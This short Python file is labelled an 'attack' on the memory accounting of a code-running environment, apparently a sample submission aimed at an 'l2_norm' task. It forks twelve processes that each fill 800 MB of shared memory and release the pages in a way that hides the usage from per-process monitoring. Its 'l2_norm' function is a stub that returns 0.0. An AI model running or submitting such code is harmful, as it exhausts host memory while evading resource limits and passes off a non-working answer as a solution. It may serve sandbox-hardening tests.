# attack: shared memory that nobody seems to have
# idea: Each fork fills a shared mapping and lets go of its pages, which the kernel keeps: no process
#   is seen to hold them.
# place: l2_norm
# outcome: memory

import mmap
import os
import time

for _ in range(12):
    if os.fork() == 0:
        kept = mmap.mmap(-1, 800 << 20)
        for position in range(0, len(kept), 4096):
            kept[position] = 1
        kept.madvise(mmap.MADV_DONTNEED)
        time.sleep(8)
        os._exit(0)
time.sleep(8)


def FUNCTION(*values):
    return 0.0
